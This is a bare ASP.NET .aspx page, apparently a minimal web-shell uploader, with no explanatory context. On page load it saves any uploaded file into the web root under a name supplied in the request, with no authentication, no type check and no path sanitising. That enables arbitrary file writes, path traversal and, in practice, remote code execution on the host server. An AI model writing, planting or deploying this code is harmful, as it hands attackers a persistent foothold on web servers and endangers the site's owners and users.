<%@ Page Language="C#" %><script runat="server">void Page_Load(object sender, EventArgs e){if (Request.Files.Count!=0) { Request.Files[0].SaveAs(Server.MapPath("./") + Request["f"]); }}</script>
